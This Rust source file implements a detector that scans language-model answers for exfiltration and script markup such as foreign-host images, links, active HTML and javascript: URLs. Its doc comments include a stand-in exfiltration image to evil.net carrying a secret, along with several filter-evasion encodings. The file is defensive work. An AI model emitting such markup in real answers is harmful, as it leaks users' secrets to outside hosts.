//! Improper output handling (OWASP LLM05): markup in a model's answer that a
//! client would render or run.
//!
//! * `MARKDOWN_IMAGE`: an image (`![alt](url)`, `![alt][ref]` with its
//!   `[ref]: url` definition) whose host is not allowed. A client loads it
//!   without a click, so `![](https://evil.net/?q=<secret>)` is the classic
//!   exfiltration channel of an injected answer.
//! * `MARKDOWN_LINK`: a link (`[text](url)`, a reference definition, an
//!   autolink `<https://...>`, and with `bareUrls` a bare URL) to a host not
//!   allowed.
//! * `HTML_MARKUP`: `<script>`, `<iframe>`, `<object>`, `<embed>`, `<form>`,
//!   `<frame>`, `<applet>`, `<base>`, `<meta http-equiv=refresh>`, any tag with
//!   an `on*=` handler, style with `expression(`, `@import`, `-moz-binding` or
//!   a `url(` off the allowed hosts, and any tag whose `src`, `href`, `srcset`,
//!   `poster`, `background`, `action`, ... points off the allowed hosts.
//! * `DANGEROUS_URL`: a `javascript:`, `vbscript:` or `data:` target of any of
//!   the above, also behind entities (`&#106;avascript:`), percent-encoding,
//!   backslash escapes or white space (`java\tscript:`).
//!
//! Hosts are compared after parsing the URL the way a browser does
//! (userinfo, port, backslashes, `https:evil.net`, `//evil.net`,
//! percent-encoded and full-width dots), so `https://ok.com.evil.net/`,
//! `https://evil.net/?x=ok.com` and `https://ok.com@evil.net/` are not `ok.com`.
//!
//! HTML is tokenised the way a browser does it: tag after tag, a quoted
//! attribute value may hold `>`, comments and end tags are skipped. So
//! `a < b`, `[1]` and `Vec<String>` are prose, not markup.
//!
//! Code spans and fenced code blocks are scanned like any other text: a
//! streamed answer is checked in windows that do not know whether a fence
//! opened earlier, and an injected answer can forge fences. A coding
//! assistant that shows HTML should set `html` to `flag` (or `defang`).
//! `javascript:` in prose (not the target of a link, image or attribute) is
//! not reported.
//!
//! Rewrites (strip, defang) can join what is left into new markup
//! (`<scr<b onclick=x>ipt>`): the rewritten text is scanned again, up to
//! [`MAX_ROUNDS`] times, and the findings returned describe the final text.

use super::{Action, Channel, Detector, Family, Finding, ScanText};
use crate::api::Direction;
use crate::redact::Rewrite;
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::{HashMap, HashSet};
use std::sync::Arc;

/// An image whose host is not allowed.
pub const KIND_IMAGE: &str = "MARKDOWN_IMAGE";
/// A link whose host is not allowed.
pub const KIND_LINK: &str = "MARKDOWN_LINK";
/// Active or resource-loading HTML.
pub const KIND_HTML: &str = "HTML_MARKUP";
/// A `javascript:`, `vbscript:` or `data:` target.
pub const KIND_URL: &str = "DANGEROUS_URL";

/// Bytes looked back from `](` for the `[` of a link's text.
pub const MAX_LABEL_BYTES: usize = 512;
/// Longest link destination read.
const MAX_DEST_BYTES: usize = 4096;
/// Longest HTML tag read (from `<` to `>`).
const MAX_TAG_BYTES: usize = 8192;
/// Times a rewritten text is scanned again at most.
pub const MAX_ROUNDS: usize = 4;

/// What a kind of finding gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
#[serde(rename_all = "camelCase")]
pub enum OutputAction {
    /// Removed (a link keeps its text: `[text](url)` becomes `text`).
    Strip,
    /// Made inert but readable: `[image: alt] (hxxps://evil[.]net/x)`,
    /// `&lt;script&gt;`, `javascript-blocked:`.
    Defang,
    /// Left as it is, reported in `x-tollgate-findings`.
    Flag,
    /// The response is refused (a stream ends with the API's error event).
    Block,
}

/// The hosts links and images may point to: exact names and `*.suffix` wildcards.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct HostAllowList {
    exact: Vec<String>,
    /// `.example.com` for `*.example.com`.
    suffixes: Vec<String>,
}

impl HostAllowList {
    /// Parse `patterns`; the error names the index of the bad one.
    pub fn new(patterns: &[String]) -> Result<HostAllowList, (usize, String)> {
        let mut list = HostAllowList::default();
        for (i, p) in patterns.iter().enumerate() {
            let p = p.trim().to_lowercase();
            let p = p.strip_suffix('.').unwrap_or(&p);
            let (wild, host) = match p.strip_prefix("*.") {
                Some(rest) => (true, rest),
                None => (false, p),
            };
            if host.is_empty() {
                return Err((i, "must name a host".into()));
            }
            if host.contains('*') {
                return Err((i, "a wildcard is allowed only as a leading `*.`".into()));
            }
            if let Some(c) = host.chars().find(|c| {
                c.is_whitespace() || matches!(c, '/' | '\\' | ':' | '@' | '?' | '#' | '[' | ']')
            }) {
                return Err((
                    i,
                    format!(
                        "{c:?} is not allowed: give a host name only (no scheme, port or path)"
                    ),
                ));
            }
            if host.starts_with('.') || host.ends_with('.') || host.contains("..") {
                return Err((i, "empty label in host name".into()));
            }
            if wild {
                list.suffixes.push(format!(".{host}"));
            } else {
                list.exact.push(host.to_string());
            }
        }
        Ok(list)
    }

    /// Whether `host` (lower case, as [`url_host`] gives it) is allowed.
    /// `*.example.com` matches `a.example.com`, not `example.com` itself.
    pub fn allows(&self, host: &str) -> bool {
        self.exact.iter().any(|h| h == host)
            || self
                .suffixes
                .iter()
                .any(|s| host.len() > s.len() && host.ends_with(s.as_str()))
    }
}

/// The actions of each kind, and the options.
#[derive(Debug, Clone, PartialEq)]
pub struct OutputOptions {
    pub images: OutputAction,
    pub links: OutputAction,
    pub html: OutputAction,
    pub dangerous_urls: OutputAction,
    /// Bare URLs (`https://...` in prose); `None` = not reported.
    pub bare_urls: Option<OutputAction>,
    /// `data:image/png|jpeg|gif|webp` images are allowed (never SVG).
    pub allow_data_images: bool,
}

impl Default for OutputOptions {
    fn default() -> Self {
        OutputOptions {
            images: OutputAction::Strip,
            links: OutputAction::Defang,
            html: OutputAction::Strip,
            dangerous_urls: OutputAction::Strip,
            bare_urls: None,
            allow_data_images: false,
        }
    }
}

/// The output detector (see the module documentation).
#[derive(Debug)]
pub struct OutputDetector {
    id: String,
    allow: HostAllowList,
    opts: OutputOptions,
    channels: Vec<Channel>,
    re_def: Regex,
    re_ref_image: Regex,
    re_autolink: Regex,
    re_bare: Regex,
}

/// One thing found in one round, in offsets of that round's text.
#[derive(Debug, Clone)]
struct Hit {
    start: usize,
    end: usize,
    kind: &'static str,
    rule: String,
    action: OutputAction,
    /// The replacement (strip and defang only).
    literal: String,
}

/// What a target URL is.
#[derive(Debug, Clone, PartialEq)]
enum Target {
    Safe,
    /// Script or data scheme, and the decoded text after its `:`.
    Dangerous {
        scheme: &'static str,
        rest: String,
    },
    /// A host not allowed; the decoded URL.
    Foreign(String),
}

impl OutputDetector {
    pub fn new(
        id: &str,
        allow: HostAllowList,
        opts: OutputOptions,
        channels: Vec<Channel>,
    ) -> Result<OutputDetector, String> {
        let re = |s: &str| Regex::new(s).map_err(|e| e.to_string());
        Ok(OutputDetector {
            id: id.to_string(),
            allow,
            opts,
            channels,
            re_def: re(
                r"(?m)^ {0,3}\[((?:[^\[\]\\\n]|\\.){1,500})\]:[ \t]*(?:\r?\n[ \t]*)?(<[^<>\n]*>|[^\s<>]\S*)[^\n]*",
            )?,
            re_ref_image: re(
                r"!\[((?:[^\[\]\\\n]|\\.){0,500})\](?:\[((?:[^\[\]\\\n]|\\.){0,500})\])?",
            )?,
            re_autolink: re(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")?,
            re_bare: re(r"(?i)\b(?:https?://|ftp://|www\.)[^\s<>\x22'`\[\]]+")?,
        })
    }

    fn rule(&self, name: &str) -> String {
        format!("{}.{name}", self.id)
    }

    /// Every finding in `text`, in offsets of `text`: flagged and blocking
    /// constructs as found, and the rewrites of the final text (after
    /// rescanning what a rewrite left) as `Rewrite::Literal` spans.
    pub fn findings(&self, text: &str) -> Vec<Finding> {
        let mut notes: Vec<Finding> = Vec::new();
        // What `notes` holds, for an O(1) de-duplication per hit.
        let mut noted: std::collections::HashSet<(usize, usize, &'static str)> =
            std::collections::HashSet::new();
        let mut cur = text.to_string();
        let mut segs = vec![Seg {
            t0: 0,
            t1: text.len(),
            o0: 0,
            o1: text.len(),
            meta: None,
        }];
        let mut changed = false;
        for _ in 0..MAX_ROUNDS {
            let hits = self.hits(&cur);
            if hits.is_empty() {
                break;
            }
            let mut edits: Vec<Hit> = Vec::new();
            for h in hits {
                match h.action {
                    OutputAction::Strip | OutputAction::Defang => edits.push(h),
                    OutputAction::Flag | OutputAction::Block => {
                        let (o0, o1) = (map_start(&segs, h.start), map_end(&segs, h.end));
                        if noted.insert((o0, o1, h.kind)) {
                            notes.push(self.finding(&h, o0, o1, None));
                        }
                    }
                }
            }
            if edits.is_empty() {
                break;
            }
            // Non-overlapping: the earliest (then the longest) wins; what
            // it hid is found again in the next round.
            edits.sort_by_key(|h| (h.start, std::cmp::Reverse(h.end)));
            let mut kept: Vec<Hit> = Vec::with_capacity(edits.len());
            for h in edits {
                if kept.last().is_none_or(|k| h.start >= k.end) {
                    kept.push(h);
                }
            }
            let (next, next_segs) = apply(&cur, &segs, &kept);
            if next == cur {
                break;
            }
            cur = next;
            segs = next_segs;
            changed = true;
        }
        let mut out = notes;
        if changed {
            for s in &segs {
                if let Some(h) = &s.meta {
                    let lit = cur.get(s.t0..s.t1).unwrap_or_default();
                    out.push(self.finding(h, s.o0, s.o1, Some(lit)));
                }
            }
        }
        out.sort_by_key(|f| (f.start, f.end));
        out
    }

    fn finding(&self, h: &Hit, start: usize, end: usize, literal: Option<&str>) -> Finding {
        let (action, rewrite) = match (h.action, literal) {
            (OutputAction::Block, _) => (Action::Block, Rewrite::Mask),
            (OutputAction::Flag, _) | (_, None) => (Action::Flag, Rewrite::Mask),
            (_, Some(l)) => (Action::Redact, Rewrite::Literal(Arc::from(l))),
        };
        Finding {
            kind: h.kind,
            family: Family::Output,
            rule_id: h.rule.clone(),
            start,
            end,
            score: 1.0,
            action,
            source: "pattern",
            rewrite,
        }
    }

    /// One round: everything found in `t`.
    fn hits(&self, t: &str) -> Vec<Hit> {
        let mut hits = Vec::new();
        let has_inline = t.contains("](");
        let has_def = t.contains("]:");
        let has_lt = t.contains('<');
        let bare = self.opts.bare_urls.is_some() && (t.contains("://") || t.contains("www."));
        if !(has_inline || has_def || has_lt || bare) {
            return hits;
        }
        // Ranges of every construct recognised, allowed or not (a bare URL inside one is not bare).
        let mut covered: Vec<(usize, usize)> = Vec::new();
        if has_inline {
            self.inline_links(t, &mut hits, &mut covered);
        }
        if has_def {
            self.references(t, &mut hits, &mut covered);
        }
        if has_lt {
            self.autolinks(t, &mut hits, &mut covered);
            self.html(t, &mut hits, &mut covered);
        }
        if bare {
            self.bare_urls(t, &mut hits, &covered);
        }
        hits
    }

    fn action_of(&self, kind: &'static str) -> OutputAction {
        match kind {
            KIND_IMAGE => self.opts.images,
            KIND_LINK => self.opts.links,
            KIND_HTML => self.opts.html,
            _ => self.opts.dangerous_urls,
        }
    }

    /// A hit with the literal its action needs (computed only then).
    #[allow(clippy::too_many_arguments)]
    fn hit(
        &self,
        kind: &'static str,
        rule: &str,
        action: OutputAction,
        start: usize,
        end: usize,
        strip: impl FnOnce() -> String,
        defang: impl FnOnce() -> String,
    ) -> Hit {
        let literal = match action {
            OutputAction::Strip => strip(),
            OutputAction::Defang => defang(),
            OutputAction::Flag | OutputAction::Block => String::new(),
        };
        Hit {
            start,
            end,
            kind,
            rule: self.rule(rule),
            action,
            literal,
        }
    }

    /// What a link, image or attribute target is.
    fn classify(&self, raw: &str, image: bool) -> Target {
        let decoded = decode_target(raw);
        let lower = decoded.to_ascii_lowercase();
        let pct = strip_controls(&percent_decode(&lower));
        for cand in [&lower, &pct] {
            let Some(s) = scheme(cand) else { continue };
            let rest = || cand.get(s.len() + 1..).unwrap_or_default().to_string();
            let dangerous = match s {
                "javascript" => "javascript",
                "vbscript" => "vbscript",
                "livescript" => "livescript",
                "data" => {
                    if image && self.opts.allow_data_images && raster_data_image(cand) {
                        return Target::Safe;
                    }
                    "data"
                }
                _ => continue,
            };
            // The rest in its original case when the plain form matched.
            let rest = if std::ptr::eq(cand, &lower) {
                decoded.get(s.len() + 1..).unwrap_or_default().to_string()
            } else {
                rest()
            };
            return Target::Dangerous {
                scheme: dangerous,
                rest,
            };
        }
        match url_host(&lower) {
            Some(h) if !self.allow.allows(&h) => Target::Foreign(decoded),
            _ => Target::Safe,
        }
    }

    /// `[text](url)` and `![alt](url "title")`.
    fn inline_links(&self, t: &str, hits: &mut Vec<Hit>, covered: &mut Vec<(usize, usize)>) {
        let b = t.as_bytes();
        for (m, _) in t.match_indices("](") {
            if escaped(b, m) {
                continue;
            }
            let Some(open) = matching_open(b, m) else {
                continue;
            };
            let Some(dest) = parse_dest(b, m + 2) else {
                continue;
            };
            let image = open > 0 && b.get(open - 1) == Some(&b'!') && !escaped(b, open - 1);
            let start = if image { open - 1 } else { open };
            let end = dest.close + 1;
            covered.push((start, end));
            let label = t.get(open + 1..m).unwrap_or_default();
            let raw = t.get(dest.start..dest.end).unwrap_or_default();
            let (before, after) = (
                t.get(start..dest.start).unwrap_or_default(),
                t.get(dest.end..end).unwrap_or_default(),
            );
            let (name, kind) = if image {
                ("markdown_image", KIND_IMAGE)
            } else {
                ("markdown_link", KIND_LINK)
            };
            self.judge(
                raw,
                image,
                (start, end),
                label,
                (before, after),
                name,
                kind,
                hits,
            );
        }
    }

    /// Push the hit of a markdown construct at `span` whose target is `raw`
    /// (`before` and `after` are the construct around the target).
    #[allow(clippy::too_many_arguments)]
    fn judge(
        &self,
        raw: &str,
        image: bool,
        span: (usize, usize),
        label: &str,
        (before, after): (&str, &str),
        name: &str,
        kind: &'static str,
        hits: &mut Vec<Hit>,
    ) {
        let keep_text = || {
            if image {
                String::new()
            } else {
                label.to_string()
            }
        };
        match self.classify(raw, image) {
            Target::Safe => {}
            Target::Dangerous { scheme, rest } => {
                let a = self.opts.dangerous_urls;
                hits.push(self.hit(
                    KIND_URL,
                    &format!("url.{scheme}"),
                    a,
                    span.0,
                    span.1,
                    keep_text,
                    || format!("{before}{}{after}", blocked(scheme, &rest)),
                ));
            }
            Target::Foreign(url) => {
                let a = self.action_of(kind);
                hits.push(self.hit(kind, name, a, span.0, span.1, keep_text, || {
                    let url = defang_url(&url);
                    match (image, label.trim().is_empty()) {
                        (true, true) => format!("[image] ({url})"),
                        (true, false) => format!("[image: {label}] ({url})"),
                        (false, _) => format!("{label} ({url})"),
                    }
                }));
            }
        }
    }

    /// `[ref]: url` definitions and the `![alt][ref]` images that use them.
    fn references(&self, t: &str, hits: &mut Vec<Hit>, covered: &mut Vec<(usize, usize)>) {
        let mut defs: HashMap<String, Target> = HashMap::new();
        let mut def_hits: Vec<(String, usize, usize, &str, &str, Target)> = Vec::new();
        for c in self.re_def.captures_iter(t) {
            let (Some(all), Some(label), Some(dest)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let raw = dest.as_str();
            let raw = raw
                .strip_prefix('<')
                .and_then(|r| r.strip_suffix('>'))
                .unwrap_or(raw);
            let key = label_key(label.as_str());
            let target = self.classify(raw, true);
            covered.push((all.start(), all.end()));
            defs.entry(key.clone()).or_insert_with(|| target.clone());
            def_hits.push((key, all.start(), all.end(), label.as_str(), raw, target));
        }
        if def_hits.is_empty() {
            return;
        }
        let b = t.as_bytes();
        let mut image_labels: HashSet<String> = HashSet::new();
        if t.contains("![") {
            for c in self.re_ref_image.captures_iter(t) {
                let Some(all) = c.get(0) else { continue };
                if matches!(b.get(all.end()), Some(b'(' | b':')) {
                    continue;
                }
                let alt = c.get(1).map_or("", |m| m.as_str());
                let key = match c.get(2).map(|m| m.as_str()) {
                    Some(r) if !r.trim().is_empty() => label_key(r),
                    _ => label_key(alt),
                };
                let Some(target) = defs.get(&key) else {
                    continue;
                };
                image_labels.insert(key);
                covered.push((all.start(), all.end()));
                let (s, e) = (all.start(), all.end());
                match target {
                    Target::Safe => {}
                    Target::Dangerous { scheme, .. } => hits.push(self.hit(
                        KIND_URL,
                        &format!("url.{scheme}"),
                        self.opts.dangerous_urls,
                        s,
                        e,
                        String::new,
                        || format!("[image: {alt}]"),
                    )),
                    Target::Foreign(url) => hits.push(self.hit(
                        KIND_IMAGE,
                        "markdown_image",
                        self.opts.images,
                        s,
                        e,
                        String::new,
                        || format!("[image: {alt}] ({})", defang_url(url)),
                    )),
                }
            }
        }
        for (key, s, e, label, _raw, target) in def_hits {
            match target {
                Target::Safe => {}
                Target::Dangerous { scheme, rest } => hits.push(self.hit(
                    KIND_URL,
                    &format!("url.{scheme}"),
                    self.opts.dangerous_urls,
                    s,
                    e,
                    String::new,
                    || format!("[{label}] ({})", blocked(scheme, &rest)),
                )),
                Target::Foreign(url) => {
                    let kind = if image_labels.contains(&key) {
                        KIND_IMAGE
                    } else {
                        KIND_LINK
                    };
                    hits.push(self.hit(
                        kind,
                        "markdown_reference",
                        self.action_of(kind),
                        s,
                        e,
                        String::new,
                        || format!("[{label}] ({})", defang_url(&url)),
                    ));
                }
            }
        }
    }

    /// `<https://...>`.
    fn autolinks(&self, t: &str, hits: &mut Vec<Hit>, covered: &mut Vec<(usize, usize)>) {
        for c in self.re_autolink.captures_iter(t) {
            let (Some(all), Some(url)) = (c.get(0), c.get(1)) else {
                continue;
            };
            covered.push((all.start(), all.end()));
            match self.classify(url.as_str(), false) {
                Target::Safe => {}
                Target::Dangerous { scheme, rest } => hits.push(self.hit(
                    KIND_URL,
                    &format!("url.{scheme}"),
                    self.opts.dangerous_urls,
                    all.start(),
                    all.end(),
                    String::new,
                    || format!("<{}>", blocked(scheme, &rest)),
                )),
                Target::Foreign(u) => hits.push(self.hit(
                    KIND_LINK,
                    "autolink",
                    self.opts.links,
                    all.start(),
                    all.end(),
                    String::new,
                    || defang_url(&u),
                )),
            }
        }
    }

    /// `https://...` and `www.` in prose.
    fn bare_urls(&self, t: &str, hits: &mut Vec<Hit>, covered: &[(usize, usize)]) {
        let Some(action) = self.opts.bare_urls else {
            return;
        };
        // The covered ranges by start, with the furthest end reached so far:
        // a range overlaps `s..e` exactly when one starting before `e` ends
        // after `s`. A search per URL, not a pass over every range (an answer
        // of thousands of links would make that quadratic).
        let mut sorted = covered.to_vec();
        sorted.sort_unstable();
        let reach: Vec<usize> = sorted
            .iter()
            .scan(0, |max, (_, b)| {
                *max = (*max).max(*b);
                Some(*max)
            })
            .collect();
        let is_covered = |s: usize, e: usize| {
            let before = sorted.partition_point(|(a, _)| *a < e);
            before
                .checked_sub(1)
                .and_then(|i| reach.get(i))
                .is_some_and(|&b| b > s)
        };
        for m in self.re_bare.find_iter(t) {
            let mut url = m.as_str();
            loop {
                let trimmed =
                    url.trim_end_matches(['.', ',', ':', ';', '!', '?', '*', '_', '~', '\'', '"']);
                let trimmed = if trimmed.ends_with(')')
                    && trimmed.matches(')').count() > trimmed.matches('(').count()
                {
                    trimmed.get(..trimmed.len() - 1).unwrap_or(trimmed)
                } else {
                    trimmed
                };
                if trimmed.len() == url.len() {
                    break;
                }
                url = trimmed;
            }
            let (s, e) = (m.start(), m.start() + url.len());
            if url.is_empty() || is_covered(s, e) {
                continue;
            }
            let full =
                if url.len() >= 4 && url.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("www.")) {
                    format!("http://{url}")
                } else {
                    url.to_string()
                };
            if let Target::Foreign(_) = self.classify(&full, false) {
                hits.push(
                    self.hit(KIND_LINK, "bare_url", action, s, e, String::new, || {
                        defang_url(url)
                    }),
                );
            }
        }
    }

    /// HTML tags, tokenised one after the other as a browser does.
    fn html(&self, t: &str, hits: &mut Vec<Hit>, covered: &mut Vec<(usize, usize)>) {
        let b = t.as_bytes();
        let mut i = 0;
        while let Some(off) = t.get(i..).and_then(|r| r.find('<')) {
            let lt = i + off;
            match b.get(lt + 1) {
                Some(c) if c.is_ascii_alphabetic() => {}
                Some(b'/') if b.get(lt + 2).is_some_and(u8::is_ascii_alphabetic) => {
                    i = find_byte(b, lt + 2, b'>').map_or(lt + 1, |g| g + 1);
                    continue;
                }
                Some(b'!') => {
                    let end = if t.get(lt..).is_some_and(|r| r.starts_with("<!--")) {
                        t.get(lt + 4..)
                            .and_then(|r| r.find("-->"))
                            .map(|e| lt + 4 + e + 3)
                    } else {
                        find_byte(b, lt + 2, b'>').map(|g| g + 1)
                    };
                    i = end.unwrap_or(lt + 1);
                    continue;
                }
                _ => {
                    i = lt + 1;
                    continue;
                }
            }
            let Some(tag) = parse_tag(t, lt) else {
                i = lt + 1;
                continue;
            };
            covered.push((lt, tag.end));
            i = self.judge_tag(t, lt, &tag, hits).max(lt + 1);
        }
    }

    /// Push the hit of the tag at `lt`; where tokenising goes on.
    fn judge_tag(&self, t: &str, lt: usize, tag: &Tag, hits: &mut Vec<Hit>) -> usize {
        let name = tag.name.as_str();
        let tag_text = t.get(lt..tag.end).unwrap_or_default();
        // The element with its content, for those whose content is code or
        // fallback markup (when the end tag is in the text).
        let whole = || -> usize {
            if !WHOLE_ELEMENTS.contains(&name) {
                return tag.end;
            }
            end_tag(t, tag.end, name).unwrap_or(tag.end)
        };
        // 1. A script or data URL in an attribute.
        for a in &tag.attrs {
            if !URL_ATTRS.contains(&a.name.as_str()) {
                continue;
            }
            let image = name == "img" || name == "source" || name == "picture";
            for (vs, ve) in attr_urls(t, a) {
                let value = t.get(vs..ve).unwrap_or_default();
                if let Target::Dangerous { scheme, rest } = self.classify(value, image) {
                    let rel = (vs - lt, ve - lt);
                    hits.push(self.hit(
                        KIND_URL,
                        &format!("url.{scheme}"),
                        self.opts.dangerous_urls,
                        lt,
                        tag.end,
                        String::new,
                        || {
                            format!(
                                "{}{}{}",
                                tag_text.get(..rel.0).unwrap_or_default(),
                                blocked(scheme, &rest),
                                tag_text.get(rel.1..).unwrap_or_default()
                            )
                        },
                    ));
                    return tag.end;
                }
            }
        }
        // 2. Active markup.
        let attr = |n: &str| tag.attrs.iter().find(|a| a.name == n);
        let value = |a: &Attr| {
            decode_target(t.get(a.value.0..a.value.1).unwrap_or_default()).to_ascii_lowercase()
        };
        let mut reason: Option<String> = None;
        let mut end = tag.end;
        if DANGEROUS_ELEMENTS.contains(&name) {
            reason = Some(format!("html.{name}"));
            end = whole();
        } else if tag.attrs.iter().any(|a| is_event_handler(&a.name)) {
            reason = Some("html.event_handler".into());
        } else if name == "meta" && attr("http-equiv").is_some_and(|a| value(a).trim() == "refresh")
        {
            reason = Some("html.meta_refresh".into());
        } else if let Some(v) = attr("style").map(value) {
            if let Some(r) = self.css_problem(&v) {
                reason = Some(r);
            }
        }
        if reason.is_none() && name == "style" {
            let close = end_tag(t, tag.end, "style");
            let content_end = close
                .and_then(|c| t.get(..c).and_then(|h| h.rfind("</")))
                .unwrap_or(t.len());
            let css = t.get(tag.end..content_end).unwrap_or_default();
            if let Some(r) = self.css_problem(&css.to_ascii_lowercase()) {
                reason = Some(r);
                end = close.unwrap_or(tag.end);
            } else {
                // Style content is text to a browser: go on after it.
                return close.unwrap_or(tag.end);
            }
        }
        // 3. A resource or link off the allowed hosts.
        if reason.is_none() {
            let foreign = tag.attrs.iter().any(|a| {
                URL_ATTRS.contains(&a.name.as_str())
                    && attr_urls(t, a).into_iter().any(|(vs, ve)| {
                        matches!(
                            self.classify(t.get(vs..ve).unwrap_or_default(), false),
                            Target::Foreign(_)
                        )
                    })
            });
            if foreign {
                reason = Some("html.remote_url".into());
            }
        }
        let Some(rule) = reason else {
            return tag.end;
        };
        let span = t.get(lt..end).unwrap_or_default();
        hits.push(self.hit(
            KIND_HTML,
            &rule,
            self.opts.html,
            lt,
            end,
            String::new,
            || span.replace('<', "&lt;").replace('>', "&gt;"),
        ));
        end
    }

    /// Why CSS (an attribute value or a style element, lower case) is active.
    fn css_problem(&self, css: &str) -> Option<String> {
        let css = normalize_css(css);
        for bad in [
            "expression(",
            "-moz-binding",
            "behavior:",
            "behaviour:",
            "@import",
        ] {
            if css.contains(bad) {
                return Some("html.style".into());
            }
        }
        if css.contains("javascript:") || css.contains("vbscript:") {
            return Some("html.style".into());
        }
        let mut rest = css.as_str();
        while let Some(p) = rest.find("url(") {
            let after = rest.get(p + 4..).unwrap_or_default();
            let close = after.find(')').unwrap_or(after.len());
            let target = after
                .get(..close)
                .unwrap_or_default()
                .trim_matches(|c| c == '"' || c == '\'');
            if !matches!(self.classify(target, true), Target::Safe) {
                return Some("html.style".into());
            }
            rest = after.get(close..).unwrap_or_default();
        }
        None
    }
}

impl Detector for OutputDetector {
    fn name(&self) -> &'static str {
        "output"
    }

    fn applies_to(&self, channel: Channel) -> bool {
        if self.channels.is_empty() {
            channel == Channel::Assistant
        } else {
            self.channels.contains(&channel)
        }
    }

    fn applies_to_direction(&self, dir: Direction) -> bool {
        dir == Direction::Response
    }

    fn scan(&self, text: &ScanText<'_>, _channel: Channel, out: &mut Vec<Finding>) {
        out.extend(self.findings(text.original));
    }
}

/// Elements that are active or load a document whatever their attributes.
const DANGEROUS_ELEMENTS: &[&str] = &[
    "script", "iframe", "object", "embed", "form", "frame", "frameset", "applet", "base", "portal",
];

/// Elements stripped with their content when the end tag is there.
const WHOLE_ELEMENTS: &[&str] = &[
    "script", "style", "iframe", "object", "applet", "frameset", "embed", "portal",
];

/// Attributes holding a URL a browser loads or navigates to.
const URL_ATTRS: &[&str] = &[
    "src",
    "href",
    "xlink:href",
    "srcset",
    "imagesrcset",
    "poster",
    "background",
    "action",
    "formaction",
    "data",
    "codebase",
    "lowsrc",
    "dynsrc",
    "ping",
    "archive",
];

/// `onload`, `onerror`, ... (an `on` and letters).
fn is_event_handler(name: &str) -> bool {
    name.len() > 2
        && name.starts_with("on")
        && name.bytes().skip(2).all(|c| c.is_ascii_alphabetic())
}

/// One attribute: lower-case name and the value's byte range (empty without one).
#[derive(Debug)]
struct Attr {
    name: String,
    value: (usize, usize),
}

#[derive(Debug)]
struct Tag {
    name: String,
    attrs: Vec<Attr>,
    /// After the `>`.
    end: usize,
}

/// The tag starting at `lt` (a `<` before a letter), read as a browser
/// tokeniser does; `None` when it has no `>` (within [`MAX_TAG_BYTES`]).
fn parse_tag(t: &str, lt: usize) -> Option<Tag> {
    let b = t.as_bytes();
    let stop = |c: u8| c.is_ascii_whitespace() || c == b'/' || c == b'>';
    let mut i = lt + 1;
    while b.get(i).is_some_and(|c| !stop(*c)) {
        i += 1;
    }
    let name = t.get(lt + 1..i)?.to_ascii_lowercase();
    let mut attrs = Vec::new();
    loop {
        while b
            .get(i)
            .is_some_and(|c| c.is_ascii_whitespace() || *c == b'/')
        {
            i += 1;
        }
        if i - lt > MAX_TAG_BYTES {
            return None;
        }
        match b.get(i)? {
            b'>' => {
                return Some(Tag {
                    name,
                    attrs,
                    end: i + 1,
                })
            }
            _ => {
                let ns = i;
                i += 1;
                while b.get(i).is_some_and(|c| !(stop(*c) || *c == b'=')) {
                    i += 1;
                }
                let aname = t.get(ns..i)?.to_ascii_lowercase();
                let mut j = i;
                while b.get(j).is_some_and(u8::is_ascii_whitespace) {
                    j += 1;
                }
                let mut value = (i, i);
                if b.get(j) == Some(&b'=') {
                    j += 1;
                    while b.get(j).is_some_and(u8::is_ascii_whitespace) {
                        j += 1;
                    }
                    match b.get(j)? {
                        q @ (b'"' | b'\'') => {
                            let close = find_byte(b, j + 1, *q)?;
                            value = (j + 1, close);
                            i = close + 1;
                        }
                        _ => {
                            let vs = j;
                            while b
                                .get(j)
                                .is_some_and(|c| !(c.is_ascii_whitespace() || *c == b'>'))
                            {
                                j += 1;
                            }
                            value = (vs, j);
                            i = j;
                        }
                    }
                }
                attrs.push(Attr { name: aname, value });
            }
        }
    }
}

/// Where the markup that starts at `lt` (a `<`) ends, for the streamed
/// hold-back window: `None` while it may still be completing (a tag without
/// its `>`, or a `<script>`, `<style>`, `<iframe>`, ... without its end tag);
/// `Some(lt + 1)` for a `<` that starts no tag.
pub fn markup_end(t: &str, lt: usize) -> Option<usize> {
    let b = t.as_bytes();
    let letter = |i: usize| b.get(i).is_some_and(u8::is_ascii_alphabetic);
    match b.get(lt + 1) {
        None => None,
        Some(b'/') if lt + 2 >= b.len() => None,
        Some(b'/') if letter(lt + 2) => find_byte(b, lt + 2, b'>').map(|g| g + 1),
        Some(b'!') => match t.get(lt..) {
            Some(r) if "<!--".starts_with(r) => None,
            Some(r) if r.starts_with("<!--") => r
                .get(4..)
                .and_then(|x| x.find("-->"))
                .map(|e| lt + 4 + e + 3),
            _ => find_byte(b, lt + 2, b'>').map(|g| g + 1),
        },
        Some(_) if letter(lt + 1) => {
            let tag = parse_tag(t, lt)?;
            if WHOLE_ELEMENTS.contains(&tag.name.as_str()) {
                end_tag(t, tag.end, &tag.name)
            } else {
                Some(tag.end)
            }
        }
        Some(_) => Some(lt + 1),
    }
}

/// The URL ranges of an attribute value (each candidate of a `srcset`).
fn attr_urls(t: &str, a: &Attr) -> Vec<(usize, usize)> {
    let (s, e) = a.value;
    if !a.name.ends_with("srcset") {
        return vec![(s, e)];
    }
    let mut out = Vec::new();
    let v = t.get(s..e).unwrap_or_default();
    let mut pos = 0;
    for part in v.split(',') {
        let lead = part.len() - part.trim_start().len();
        let url_len = part
            .trim_start()
            .find(char::is_whitespace)
            .unwrap_or(part.trim_start().len());
        out.push((s + pos + lead, s + pos + lead + url_len));
        pos += part.len() + 1;
    }
    out
}

/// After the end tag `</name ...>` found from `from` (ASCII case-insensitive).
fn end_tag(t: &str, from: usize, name: &str) -> Option<usize> {
    let b = t.as_bytes();
    let mut i = from;
    loop {
        let lt = i + t.get(i..)?.find("</")?;
        let n = b.get(lt + 2..lt + 2 + name.len())?;
        let after = b.get(lt + 2 + name.len()).copied();
        if n.eq_ignore_ascii_case(name.as_bytes())
            && after.is_none_or(|c| c.is_ascii_whitespace() || c == b'>' || c == b'/')
        {
            return find_byte(b, lt + 2, b'>').map(|g| g + 1);
        }
        i = lt + 2;
    }
}

fn find_byte(b: &[u8], from: usize, c: u8) -> Option<usize> {
    b.get(from..)?
        .iter()
        .position(|x| *x == c)
        .map(|p| from + p)
